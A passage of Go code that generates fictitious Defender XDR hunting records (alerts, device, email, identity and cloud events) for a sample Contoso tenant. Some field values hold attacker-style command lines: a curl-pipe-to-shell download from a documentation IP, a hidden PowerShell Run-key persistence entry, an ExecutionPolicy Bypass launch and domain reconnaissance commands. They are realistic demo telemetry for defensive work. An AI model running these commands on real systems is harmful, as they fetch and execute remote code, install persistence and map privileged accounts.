package demodata

import (
	"fmt"
	"strings"
	"time"
)

// row is what a table builder gets: the record's index within its table
// (0, 1, ...) and its event time.
type row struct {
	i  int
	ts time.Time
}

// A fictitious organisation: Contoso, with documentation-range addresses
// (RFC 5737, RFC 3849) and example domains only.
var (
	users = []struct{ name, upn, sid, oid, display string }{
		{"alice", "alice@contoso.com", "S-1-5-21-3623811015-3361044348-30300820-1104", "6f1b2c3d-1a2b-4c3d-8e4f-5a6b7c8d9e01", "Alice Martin"},
		{"bob", "bob@contoso.com", "S-1-5-21-3623811015-3361044348-30300820-1107", "6f1b2c3d-1a2b-4c3d-8e4f-5a6b7c8d9e02", "Bob Chen"},
		{"carol", "carol@contoso.com", "S-1-5-21-3623811015-3361044348-30300820-1112", "6f1b2c3d-1a2b-4c3d-8e4f-5a6b7c8d9e03", "Carol Diaz"},
	}
	devices = []struct{ id, name, ip, aad string }{
		{"4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d", "wks-042.contoso.com", "10.20.30.42", "a1b2c3d4-0000-4e5f-8a9b-0c1d2e3f4a01"},
		{"9f8e7d6c5b4a39281706f5e4d3c2b1a098765432", "srv-db01.contoso.com", "10.20.40.11", "a1b2c3d4-0000-4e5f-8a9b-0c1d2e3f4a02"},
		{"0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b", "lap-117.contoso.com", "10.20.31.117", "a1b2c3d4-0000-4e5f-8a9b-0c1d2e3f4a03"},
	}
	remoteIPs = []string{"203.0.113.77", "198.51.100.23", "192.0.2.150"}
)

const (
	// TenantID is the sample tenant (also the Graph fake's in the demo).
	TenantID   = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d"
	tenantName = "Contoso"
	psSHA1     = "6cbce4a295c163791b60fc23d285e6d84f28ee4c"
	psSHA256   = "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c"
	psMD5      = "7353f60b1739074eb17c5f4dddefe239"
	// The "dropped file" hashes are those of the EICAR anti-malware test
	// file: harmless, and recognised by every antivirus as a test.
	dropSHA1   = "3395856ce81f2b7382dee72602f798b642f14140"
	dropSHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
	dropMD5    = "44d88612fea8a8f36de82e1278abb02f"
)

func (r row) t(d time.Duration) string {
	return r.ts.Add(d).UTC().Format("2006-01-02T15:04:05.0000000Z")
}
func (r row) user() int   { return r.i % len(users) }
func (r row) device() int { return r.i % len(devices) }
func (r row) report() int { return 41000 + r.i*17 }

// deviceCommon are the columns every Device* table has.
func deviceCommon(r row) map[string]any {
	d := devices[r.device()]
	return map[string]any{
		"Timestamp":  r.t(0),
		"DeviceId":   d.id,
		"DeviceName": d.name,
		"ReportId":   r.report(),
	}
}

// initiating are the InitiatingProcess* columns of device events.
func initiating(r row, m map[string]any) map[string]any {
	u := users[r.user()]
	m["InitiatingProcessAccountDomain"] = "contoso"
	m["InitiatingProcessAccountName"] = u.name
	m["InitiatingProcessAccountSid"] = u.sid
	m["InitiatingProcessAccountUpn"] = u.upn
	m["InitiatingProcessAccountObjectId"] = u.oid
	m["InitiatingProcessFileName"] = "powershell.exe"
	m["InitiatingProcessFolderPath"] = `c:\windows\system32\windowspowershell\v1.0\powershell.exe`
	m["InitiatingProcessCommandLine"] = `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Users\` + u.name + `\Downloads\update.ps1`
	m["InitiatingProcessId"] = 7788 + r.i
	m["InitiatingProcessCreationTime"] = r.t(-2 * time.Minute)
	m["InitiatingProcessSHA1"] = psSHA1
	m["InitiatingProcessSHA256"] = psSHA256
	m["InitiatingProcessMD5"] = psMD5
	m["InitiatingProcessIntegrityLevel"] = "Medium"
	m["InitiatingProcessTokenElevation"] = "TokenElevationTypeLimited"
	m["InitiatingProcessParentFileName"] = "explorer.exe"
	m["InitiatingProcessParentId"] = 4120
	m["InitiatingProcessParentCreationTime"] = r.t(-3 * time.Hour)
	m["InitiatingProcessVersionInfoCompanyName"] = "Microsoft Corporation"
	m["InitiatingProcessVersionInfoProductName"] = "Microsoft® Windows® Operating System"
	m["InitiatingProcessFileSize"] = 455680
	m["AppGuardContainerId"] = ""
	return m
}

func with(m map[string]any, kv ...any) map[string]any {
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1]
	}
	return m
}

// builders holds, per supported streaming table, a function producing the
// properties of one realistic record.
var builders = map[string]func(row) map[string]any{
	"AlertEvidence": func(r row) map[string]any {
		d, u := devices[r.device()], users[r.user()]
		ent := []map[string]any{
			{"EntityType": "Machine", "EvidenceRole": "Impacted", "DeviceId": d.id, "DeviceName": d.name},
			{"EntityType": "User", "EvidenceRole": "Impacted", "AccountName": u.name, "AccountDomain": "contoso", "AccountSid": u.sid, "AccountUpn": u.upn, "AccountObjectId": u.oid},
			{"EntityType": "File", "EvidenceRole": "Related", "FileName": "update.ps1", "FolderPath": `C:\Users\` + u.name + `\Downloads\update.ps1`, "SHA1": dropSHA1, "SHA256": dropSHA256},
		}[r.i%3]
		return with(ent,
			"Timestamp", r.t(0), "AlertId", fmt.Sprintf("da638671234567890123_%d", 1800000000+r.i),
			"Title", "Suspicious PowerShell command line", "Categories", `["Execution"]`, "AttackTechniques", `["PowerShell (T1059.001)"]`,
			"ServiceSource", "Microsoft Defender for Endpoint", "DetectionSource", "EDR", "Severity", "Medium",
			"EvidenceDirection", "", "ThreatFamily", "", "RemediationStatus", "None", "RemediationStatusDetails", "",
			"AdditionalFields", `{"Host":{"$id":"2"}}`)
	},
	"AlertInfo": func(r row) map[string]any {
		return map[string]any{
			"Timestamp": r.t(0), "AlertId": fmt.Sprintf("da638671234567890123_%d", 1800000000+r.i),
			"Title":            []string{"Suspicious PowerShell command line", "Phishing email detected", "Password spray against multiple accounts"}[r.i%3],
			"Category":         []string{"Execution", "InitialAccess", "CredentialAccess"}[r.i%3],
			"Severity":         []string{"Medium", "High", "Low"}[r.i%3],
			"ServiceSource":    []string{"Microsoft Defender for Endpoint", "Microsoft Defender for Office 365", "Microsoft Defender for Identity"}[r.i%3],
			"DetectionSource":  []string{"EDR", "Microsoft Defender for Office 365", "Microsoft Defender for Identity"}[r.i%3],
			"AttackTechniques": []string{`["PowerShell (T1059.001)"]`, `["Spearphishing Link (T1566.002)"]`, `["Password Spraying (T1110.003)"]`}[r.i%3],
		}
	},
	"BehaviorEntities": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "BehaviorId": fmt.Sprintf("bh%032x", 0xb0000+r.i), "ActionType": "ImpossibleTravelActivity",
			"Categories": `["InitialAccess"]`, "ServiceSource": "Microsoft Cloud App Security", "DetectionSource": "Cloud App Security",
			"DataSources": `["Microsoft Entra ID"]`, "EntityType": "User", "EntityRole": "Impacted", "DetailedEntityRole": "Impacted",
			"AccountName": u.name, "AccountDomain": "contoso.com", "AccountSid": u.sid, "AccountObjectId": u.oid, "AccountUpn": u.upn,
			"RemoteIP": remoteIPs[r.i%len(remoteIPs)], "Application": "Microsoft 365", "ApplicationId": 11161,
			"AdditionalFields": `{"Country":"NL"}`,
		}
	},
	"BehaviorInfo": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "BehaviorId": fmt.Sprintf("bh%032x", 0xb0000+r.i), "ActionType": "ImpossibleTravelActivity",
			"Description": "User " + u.upn + " signed in from two distant countries within 40 minutes.",
			"Categories":  `["InitialAccess"]`, "AttackTechniques": `["Valid Accounts (T1078)"]`,
			"ServiceSource": "Microsoft Cloud App Security", "DetectionSource": "Cloud App Security", "DataSources": `["Microsoft Entra ID"]`,
			"AccountUpn": u.upn, "AccountObjectId": u.oid, "StartTime": r.t(-40 * time.Minute), "EndTime": r.t(0),
		}
	},
	"CloudAppEvents": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "ActionType": []string{"FileDownloaded", "MailItemsAccessed", "Add member to role."}[r.i%3],
			"Application": "Microsoft SharePoint Online", "ApplicationId": 20892, "AccountObjectId": u.oid, "AccountId": u.oid,
			"AccountDisplayName": u.display, "IsAdminOperation": r.i%3 == 2, "DeviceType": "Desktop", "OSPlatform": "Windows 11",
			"IPAddress": remoteIPs[r.i%len(remoteIPs)], "IsAnonymousProxy": false, "CountryCode": "NL", "City": "Amsterdam", "ISP": "Example Telecom",
			"UserAgent":    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
			"ActivityType": "Download", "ActivityObjects": `[{"Type":"File","Name":"Q3-forecast.xlsx"}]`, "ObjectName": "Q3-forecast.xlsx", "ObjectType": "File",
			"ReportId": fmt.Sprintf("%x-cae-%d", 0xcafe00+r.i, r.i), "RawEventData": `{"Workload":"SharePoint","Operation":"FileDownloaded"}`,
			"AdditionalFields": `{}`, "UserAgentTags": `[]`,
		}
	},
	"CloudAuditEvents": func(r row) map[string]any {
		return map[string]any{
			"Timestamp": r.t(0), "ReportId": fmt.Sprintf("cau-%d", 9100+r.i), "DataSource": "Azure Resource Manager",
			"ActionType": "Microsoft.Compute/virtualMachines/write", "OperationName": "Create or Update Virtual Machine",
			"ResourceId":       "/subscriptions/11111111-2222-4333-8444-555555555555/resourceGroups/rg-demo/providers/Microsoft.Compute/virtualMachines/vm-demo-01",
			"IPAddress":        remoteIPs[r.i%len(remoteIPs)],
			"IsAnonymousProxy": false, "CountryCode": "US", "City": "Seattle", "ISP": "Example Cloud",
			"UserAgent": "Azure-CLI/2.66.0", "RawEventData": `{"status":"Succeeded"}`, "AdditionalFields": `{}`,
		}
	},
	"CloudProcessEvents": func(r row) map[string]any {
		return map[string]any{
			"Timestamp": r.t(0), "AzureResourceId": "/subscriptions/11111111-2222-4333-8444-555555555555/resourceGroups/rg-aks/providers/Microsoft.ContainerService/managedClusters/aks-demo",
			"KubernetesNamespace": "payments", "KubernetesPodName": fmt.Sprintf("api-7d9f8c6b5-%05d", r.i), "ContainerName": "api",
			"ContainerImageName": "registry.example.com/payments/api:1.8.2", "ContainerId": fmt.Sprintf("%064x", 0xc0ffee+r.i),
			"ProcessName": "sh", "FileName": "sh", "FolderPath": "/bin/sh", "ProcessId": 311 + r.i, "ProcessCommandLine": "sh -c curl -s http://192.0.2.150/x.sh | sh",
			"ParentProcessName": "node", "ParentProcessId": 1, "AccountName": "root", "LogonId": 0, "ReportId": 52000 + r.i,
			"AdditionalFields": `{}`, "ClusterName": "aks-demo",
		}
	},
	"CloudStorageAggregatedEvents": func(r row) map[string]any {
		return map[string]any{
			"Timestamp": r.t(0), "StorageAccount": "contosodatalake", "StorageContainer": "exports",
			"StorageService": "Blob", "OperationNamesList": `["GetBlob","ListBlobs"]`, "OperationsCount": 120 + r.i,
			"DataAggregationStartTime": r.t(-time.Hour), "DataAggregationEndTime": r.t(0), "IPAddress": remoteIPs[r.i%len(remoteIPs)],
			"AuthenticationType": "SAS", "ResponseStatusCodesList": `[200]`, "SuccessfulOperationsCount": 120 + r.i, "FailedOperationsCount": 0,
			"TotalResponseLength": 73400320, "AzureResourceId": "/subscriptions/11111111-2222-4333-8444-555555555555/resourceGroups/rg-data/providers/Microsoft.Storage/storageAccounts/contosodatalake",
			"ReportId": fmt.Sprintf("csa-%d", 600+r.i),
		}
	},
	"DeviceEvents": func(r row) map[string]any {
		m := initiating(r, deviceCommon(r))
		return with(m, "ActionType", []string{"AntivirusDetection", "PowerShellCommand", "UsbDriveMounted"}[r.i%3],
			"FileName", "update.ps1", "FolderPath", `C:\Users\`+users[r.user()].name+`\Downloads\update.ps1`,
			"SHA1", dropSHA1, "SHA256", dropSHA256, "MD5", dropMD5, "AccountName", users[r.user()].name, "AccountDomain", "contoso",
			"AccountSid", users[r.user()].sid, "RemoteIP", remoteIPs[r.i%len(remoteIPs)], "RemotePort", 443, "LocalIP", devices[r.device()].ip, "LocalPort", 51544+r.i,
			"AdditionalFields", `{"ThreatName":"Trojan:PowerShell/Demo.A","WasRemediated":true}`)
	},
	"DeviceFileCertificateInfo": func(r row) map[string]any {
		m := deviceCommon(r)
		return with(m, "SHA1", psSHA1, "IsSigned", true, "SignatureType", "Embedded", "Signer", "Microsoft Windows",
			"SignerHash", "8740df4acb749640ad318e4be842f72ec651ad80", "Issuer", "Microsoft Windows Production PCA 2011",
			"IssuerHash", "a22f7ef0a4a6b6e2c41a0fdb8f6f0f5d9c3b1e27", "CertificateSerialNumber", "33000003dc3d4fa1d9c2e8f7d50000000003dc",
			"CrlDistributionPointUrls", `["http://www.microsoft.com/pkiops/crl/MicWinProPCA2011_2011-10-19.crl"]`,
			"CertificateCreationTime", "2024-02-15T19:12:04Z", "CertificateExpirationTime", "2025-02-13T19:12:04Z",
			"CertificateCountersignatureTime", "2024-05-01T08:00:00Z", "IsTrusted", true, "IsRootSignerMicrosoft", true)
	},
	"DeviceFileEvents": func(r row) map[string]any {
		m := initiating(r, deviceCommon(r))
		return with(m, "ActionType", []string{"FileCreated", "FileModified", "FileRenamed"}[r.i%3], "FileName", "update.ps1",
			"FolderPath", `C:\Users\`+users[r.user()].name+`\Downloads\update.ps1`, "SHA1", dropSHA1, "SHA256", dropSHA256, "MD5", dropMD5,
			"FileSize", 18233, "FileOriginUrl", "https://downloads.example.net/tools/update.ps1", "FileOriginReferrerUrl", "https://mail.example.org/",
			"FileOriginIP", remoteIPs[r.i%len(remoteIPs)], "PreviousFileName", "update.tmp", "PreviousFolderPath", `C:\Users\`+users[r.user()].name+`\AppData\Local\Temp`,
			"SensitivityLabel", "", "IsAzureInfoProtectionApplied", false, "RequestProtocol", "Local", "ShareName", "",
			"AdditionalFields", `{"FileType":"PowerShell"}`)
	},
	"DeviceImageLoadEvents": func(r row) map[string]any {
		m := initiating(r, deviceCommon(r))
		return with(m, "ActionType", "ImageLoaded", "FileName", "System.Management.Automation.dll",
			"FolderPath", `C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\System.Management.Automation.ni.dll`,
			"SHA1", "2ef1b2f5e7d3c4a8f0a9e6b1c3d5e7f9a1b3c5d7", "SHA256", "9a4b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b", "MD5", "0f1e2d3c4b5a69788796a5b4c3d2e1f0", "FileSize", 33188352)
	},
	"DeviceInfo": func(r row) map[string]any {
		d := devices[r.device()]
		return map[string]any{
			"Timestamp": r.t(0), "DeviceId": d.id, "DeviceName": d.name, "ReportId": r.report(),
			"ClientVersion": "10.8760.22621.1030", "PublicIP": remoteIPs[r.i%len(remoteIPs)], "OSArchitecture": "64-bit",
			"OSPlatform": []string{"Windows11", "WindowsServer2022", "Windows11"}[r.i%3], "OSBuild": 22631, "OSVersion": "10.0",
			"OSDistribution": "", "OSVersionInfo": "23H2", "IsAzureADJoined": true, "AadDeviceId": d.aad, "JoinType": "Hybrid Azure AD Join",
			"LoggedOnUsers":     `[{"UserName":"` + users[r.user()].name + `","DomainName":"CONTOSO","Sid":"` + users[r.user()].sid + `"}]`,
			"RegistryDeviceTag": "", "MachineGroup": "Workstations", "OnboardingStatus": "Onboarded", "DeviceCategory": "Endpoint",
			"DeviceType": []string{"Workstation", "Server", "Workstation"}[r.i%3], "DeviceSubtype": "", "Model": "Latitude 7440", "Vendor": "Dell Inc.",
			"SensorHealthState": "Active", "IsExcluded": false, "ExposureLevel": "Medium", "AssetValue": "Normal", "IsInternetFacing": false,
			"AdditionalFields": `{}`, "HostDeviceId": "", "MergedDeviceIds": "", "MergedToDeviceId": "", "DeviceDynamicTags": `[]`, "DeviceManualTags": `[]`,
		}
	},
	"DeviceLogonEvents": func(r row) map[string]any {
		m := initiating(r, deviceCommon(r))
		u := users[r.user()]
		return with(m, "ActionType", []string{"LogonSuccess", "LogonFailed", "LogonSuccess"}[r.i%3], "LogonType", []string{"Interactive", "Network", "RemoteInteractive"}[r.i%3],
			"AccountDomain", "contoso", "AccountName", u.name, "AccountSid", u.sid, "Protocol", "Negotiate", "FailureReason", []string{"", "InvalidUserNameOrPassword", ""}[r.i%3],
			"IsLocalAdmin", false, "LogonId", 998877+r.i, "RemoteDeviceName", "jump-01.contoso.com", "RemoteIP", "10.20.50.5", "RemoteIPType", "Private", "RemotePort", 49712,
			"AdditionalFields", `{"IsLocalLogon":true}`)
	},
	"DeviceNetworkEvents": func(r row) map[string]any {
		m := initiating(r, deviceCommon(r))
		return with(m, "ActionType", []string{"ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted"}[r.i%3],
			"RemoteIP", remoteIPs[r.i%len(remoteIPs)], "RemotePort", []int{443, 8080, 3389}[r.i%3], "RemoteUrl", "updates.example.net",
			"LocalIP", devices[r.device()].ip, "LocalPort", 51544+r.i, "Protocol", "Tcp", "LocalIPType", "Private", "RemoteIPType", "Public",
			"AdditionalFields", `{"direction":"Out"}`)
	},
	"DeviceNetworkInfo": func(r row) map[string]any {
		m := deviceCommon(r)
		return with(m, "NetworkAdapterName", "Ethernet", "MacAddress", fmt.Sprintf("00-15-5D-2A-%02X-%02X", r.i, 0x42+r.i), "NetworkAdapterType", "Ethernet",
			"NetworkAdapterStatus", "Up", "TunnelType", "None", "ConnectedNetworks", `[{"Name":"contoso.com","Description":"contoso.com","IsConnectedToInternet":true,"Category":"Domain"}]`,
			"DnsAddresses", `["10.20.0.10","10.20.0.11"]`, "IPv4Dhcp", "10.20.0.2", "IPv6Dhcp", "", "DefaultGateways", `["10.20.30.1"]`,
			"IPAddresses", `[{"IPAddress":"`+devices[r.device()].ip+`","SubnetPrefix":24,"AddressType":"Private"}]`, "NetworkAdapterVendor", "Intel Corporation")
	},
	"DeviceProcessEvents": func(r row) map[string]any {
		m := initiating(r, deviceCommon(r))
		u := users[r.user()]
		return with(m, "ActionType", "ProcessCreated", "FileName", []string{"whoami.exe", "net.exe", "rundll32.exe"}[r.i%3],
			"FolderPath", `C:\Windows\System32\`+[]string{"whoami.exe", "net.exe", "rundll32.exe"}[r.i%3],
			"ProcessCommandLine", []string{"whoami /all", "net group \"Domain Admins\" /domain", "rundll32.exe C:\\Users\\Public\\demo.dll,Start"}[r.i%3],
			"ProcessId", 9100+r.i, "ProcessCreationTime", r.t(0), "ProcessIntegrityLevel", "Medium", "ProcessTokenElevation", "TokenElevationTypeLimited",
			"AccountDomain", "contoso", "AccountName", u.name, "AccountSid", u.sid, "AccountUpn", u.upn, "AccountObjectId", u.oid, "LogonId", 998877,
			"SHA1", "a1d4c6e2b7f3a9d8c5e1f2a3b4c5d6e7f8a9b0c1", "SHA256", "b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3", "MD5", "c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8",
			"FileSize", 79360, "ProcessVersionInfoCompanyName", "Microsoft Corporation", "ProcessVersionInfoProductName", "Microsoft® Windows® Operating System",
			"ProcessVersionInfoOriginalFileName", []string{"whoami.exe", "net.exe", "RUNDLL32.EXE"}[r.i%3], "AdditionalFields", `{}`)
	},
	"DeviceRegistryEvents": func(r row) map[string]any {
		m := initiating(r, deviceCommon(r))
		return with(m, "ActionType", []string{"RegistryValueSet", "RegistryKeyCreated", "RegistryValueDeleted"}[r.i%3],
			"RegistryKey", `HKEY_CURRENT_USER\S-1-5-21-3623811015-3361044348-30300820-1104\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`,
			"RegistryValueType", "String", "RegistryValueName", "DemoUpdater", "RegistryValueData", `powershell.exe -w hidden -File C:\Users\Public\update.ps1`,
			"PreviousRegistryKey", "", "PreviousRegistryValueName", "", "PreviousRegistryValueData", "")
	},
	"EmailAttachmentInfo": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "NetworkMessageId": fmt.Sprintf("9c1e2d3f-4a5b-4c6d-8e7f-0a1b2c3d4e%02x", r.i), "ReportId": fmt.Sprintf("9c1e2d3f-%d", r.i),
			"SenderFromAddress": "billing@example.org", "SenderDisplayName": "Example Billing", "SenderObjectId": "", "RecipientEmailAddress": u.upn,
			"RecipientObjectId": u.oid, "FileName": "invoice-8812.html", "FileType": "html", "SHA256": dropSHA256, "FileSize": 5123,
			"ThreatTypes": "Phish", "ThreatNames": "Trojan:HTML/Phish.DemoA", "DetectionMethods": `{"Phish":["File detonation"]}`,
		}
	},
	"EmailEvents": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "NetworkMessageId": fmt.Sprintf("9c1e2d3f-4a5b-4c6d-8e7f-0a1b2c3d4e%02x", r.i), "InternetMessageId": fmt.Sprintf("<%x.demo@mail.example.org>", 0xf00d00+r.i),
			"ReportId": fmt.Sprintf("9c1e2d3f-%d", r.i), "SenderMailFromAddress": "bounce@mail.example.org", "SenderFromAddress": "billing@example.org",
			"SenderDisplayName": "Example Billing", "SenderMailFromDomain": "mail.example.org", "SenderFromDomain": "example.org", "SenderIPv4": remoteIPs[r.i%len(remoteIPs)],
			"SenderIPv6": "", "RecipientEmailAddress": u.upn, "RecipientObjectId": u.oid, "Subject": []string{"Invoice 8812 overdue", "Your mailbox is almost full", "Team lunch on Friday"}[r.i%3],
			"EmailClusterId": 3201982123 + r.i, "EmailDirection": "Inbound", "DeliveryAction": []string{"Blocked", "Delivered", "Delivered"}[r.i%3],
			"DeliveryLocation": []string{"Quarantine", "Inbox/folder", "Inbox/folder"}[r.i%3], "ThreatTypes": []string{"Phish", "Spam", ""}[r.i%3],
			"DetectionMethods": []string{`{"Phish":["URL detonation reputation"]}`, `{"Spam":["Bulk"]}`, ""}[r.i%3], "ConfidenceLevel": `{"Phish":"High"}`,
			"BulkComplaintLevel": 0, "EmailAction": "", "EmailActionPolicy": "", "EmailActionPolicyGuid": "", "AuthenticationDetails": `{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}`,
			"AttachmentCount": 1, "UrlCount": 2, "EmailLanguage": "en", "Connectors": "", "OrgLevelAction": "", "OrgLevelPolicy": "", "UserLevelAction": "", "UserLevelPolicy": "",
			"LatestDeliveryLocation": "Quarantine", "LatestDeliveryAction": "Blocked", "AdditionalFields": `{}`,
		}
	},
	"EmailPostDeliveryEvents": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "NetworkMessageId": fmt.Sprintf("9c1e2d3f-4a5b-4c6d-8e7f-0a1b2c3d4e%02x", r.i), "InternetMessageId": fmt.Sprintf("<%x.demo@mail.example.org>", 0xf00d00+r.i),
			"ReportId": fmt.Sprintf("pde-%d", r.i), "Action": "Moved to quarantine", "ActionType": "Phish ZAP", "ActionTrigger": "SpecialAction",
			"ActionResult": "Success", "RecipientEmailAddress": u.upn, "DeliveryLocation": "Quarantine", "ThreatTypes": "Phish", "DetectionMethods": `{"Phish":["Zero-hour auto purge"]}`,
		}
	},
	"EmailUrlInfo": func(r row) map[string]any {
		return map[string]any{
			"Timestamp": r.t(0), "NetworkMessageId": fmt.Sprintf("9c1e2d3f-4a5b-4c6d-8e7f-0a1b2c3d4e%02x", r.i), "ReportId": fmt.Sprintf("9c1e2d3f-%d", r.i),
			"Url": fmt.Sprintf("https://login.example.net/verify?id=%d", 100+r.i), "UrlDomain": "login.example.net", "UrlLocation": "Body",
		}
	},
	"IdentityDirectoryEvents": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "ActionType": []string{"Account Password changed", "Group Membership changed", "Account enabled"}[r.i%3],
			"Application": "Active Directory", "TargetAccountUpn": u.upn, "TargetAccountDisplayName": u.display, "TargetDeviceName": "",
			"DestinationDeviceName": "dc-01.contoso.com", "DestinationIPAddress": "10.20.0.10", "DestinationPort": 389, "Protocol": "Ldap",
			"AccountName": "admin-" + u.name, "AccountDomain": "contoso.com", "AccountUpn": "admin-" + u.upn, "AccountSid": u.sid, "AccountObjectId": u.oid,
			"AccountDisplayName": "Admin " + u.display, "DeviceName": "adm-01.contoso.com", "IPAddress": "10.20.60.4", "Port": 50122, "Location": "",
			"ISP": "", "ReportId": fmt.Sprintf("ide-%d", r.i), "AdditionalFields": `{"TO.GROUP":"Helpdesk Operators"}`,
		}
	},
	"IdentityInfo": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "ReportId": fmt.Sprintf("ii-%d", r.i), "AccountObjectId": u.oid, "AccountUpn": u.upn, "OnPremSid": u.sid,
			"AccountDisplayName": u.display, "AccountName": u.name, "AccountDomain": "contoso.com", "GivenName": strings.Fields(u.display)[0],
			"Surname": strings.Fields(u.display)[1], "EmailAddress": u.upn, "Department": []string{"Finance", "IT", "Sales"}[r.i%3], "JobTitle": []string{"Controller", "Sysadmin", "Account manager"}[r.i%3],
			"City": "Amsterdam", "Country": "NL", "IsAccountEnabled": true, "Manager": "", "Phone": "+31 20 555 0100", "CreatedDateTime": "2021-03-04T09:00:00Z",
			"SourceProvider": "ActiveDirectory", "ChangeSource": "", "BlastRadius": "Medium", "CompanyName": "Contoso", "DeletedDateTime": "", "TenantMembershipType": "Member",
			"UserAccountControl": `["NormalAccount"]`, "Tags": `[]`, "AssignedRoles": `[]`, "PrivilegedEntraPimRoles": `[]`, "GroupMembership": `["Domain Users"]`, "RiskLevel": "Low", "RiskStatus": "None",
		}
	},
	"IdentityLogonEvents": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "ActionType": []string{"LogonFailed", "LogonSuccess", "LogonSuccess"}[r.i%3], "Application": []string{"Active Directory", "Microsoft 365", "Active Directory"}[r.i%3],
			"LogonType": []string{"Resource access", "Interactive", "Credentials validation"}[r.i%3], "Protocol": []string{"Kerberos", "", "Ntlm"}[r.i%3],
			"FailureReason": []string{"WrongPassword", "", ""}[r.i%3], "AccountName": u.name, "AccountDomain": "contoso.com", "AccountUpn": u.upn, "AccountSid": u.sid,
			"AccountObjectId": u.oid, "AccountDisplayName": u.display, "DeviceName": devices[r.device()].name, "DeviceType": "Desktop", "OSPlatform": "Windows 11",
			"IPAddress": []string{"10.20.30.99", remoteIPs[r.i%len(remoteIPs)], "10.20.31.117"}[r.i%3], "Port": 50310 + r.i, "DestinationDeviceName": "dc-01.contoso.com",
			"DestinationIPAddress": "10.20.0.10", "DestinationPort": 88, "TargetDeviceName": "", "TargetAccountDisplayName": "", "Location": "Amsterdam, NL", "ISP": "",
			"ReportId": fmt.Sprintf("ile-%d", r.i), "AdditionalFields": `{}`,
		}
	},
	"IdentityQueryEvents": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "ActionType": []string{"LDAP query", "SAMR query", "DNS query"}[r.i%3], "Application": "Active Directory",
			"QueryType": []string{"AllUsers", "QueryGroup", "A"}[r.i%3], "QueryTarget": []string{"", "Domain Admins", "fileserver.contoso.com"}[r.i%3],
			"Query": []string{"(&(objectCategory=person)(objectClass=user))", "Domain Admins", "fileserver.contoso.com"}[r.i%3], "Protocol": []string{"Ldap", "Samr", "Dns"}[r.i%3],
			"AccountName": u.name, "AccountDomain": "contoso.com", "AccountUpn": u.upn, "AccountSid": u.sid, "AccountObjectId": u.oid, "AccountDisplayName": u.display,
			"DeviceName": devices[r.device()].name, "IPAddress": devices[r.device()].ip, "Port": 50500 + r.i, "DestinationDeviceName": "dc-01.contoso.com",
			"DestinationIPAddress": "10.20.0.10", "DestinationPort": 389, "TargetDeviceName": "", "TargetAccountUpn": "", "TargetAccountDisplayName": "", "Location": "", "ReportId": fmt.Sprintf("iqe-%d", r.i),
			"AdditionalFields": `{}`,
		}
	},
	"MessageEvents": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "TeamsMessageId": fmt.Sprintf("1732%09d", 100000+r.i), "SenderEmailAddress": "it-support@example.net", "SenderDisplayName": "IT Support",
			"SenderType": "External", "RecipientDetails": `[{"RecipientSmtpAddress":"` + u.upn + `","RecipientObjectId":"` + u.oid + `","RecipientDisplayName":"` + u.display + `"}]`,
			"IsOwnedThread": false, "IsExternalThread": true, "ThreadId": "19:demo-thread@thread.v2", "ThreadType": "OneOnOne", "ThreadSubType": "", "GroupId": "", "GroupName": "",
			"MessageType": "Chat", "MessageSubtype": "", "MessageVersion": "1", "LastEditedTime": "", "DeliveryAction": "Delivered", "DeliveryLocation": "Teams",
			"ThreatTypes": "Phish", "DetectionMethods": `{"Phish":["URL detonation"]}`, "ConfidenceLevel": `{"Phish":"High"}`, "SourceId": "", "SourceType": "", "Subject": "Reset your password",
			"ReportId": fmt.Sprintf("me-%d", r.i), "ParentMessageId": "", "AdditionalFields": `{}`,
		}
	},
	"MessagePostDeliveryEvents": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "TeamsMessageId": fmt.Sprintf("1732%09d", 100000+r.i), "ReportId": fmt.Sprintf("mpde-%d", r.i), "Action": "Block",
			"ActionType": "Phish ZAP", "ActionTrigger": "Automatic", "ActionResult": "Success", "RecipientDetails": `[{"RecipientSmtpAddress":"` + u.upn + `"}]`,
			"ThreatTypes": "Phish", "DetectionMethods": `{"Phish":["Zero-hour auto purge"]}`, "SenderEmailAddress": "it-support@example.net", "ThreadId": "19:demo-thread@thread.v2",
			"ThreadType": "OneOnOne", "LatestDeliveryLocation": "Blocked", "LatestDeliveryAction": "Blocked",
		}
	},
	"MessageUrlInfo": func(r row) map[string]any {
		return map[string]any{
			"Timestamp": r.t(0), "TeamsMessageId": fmt.Sprintf("1732%09d", 100000+r.i), "ReportId": fmt.Sprintf("mui-%d", r.i),
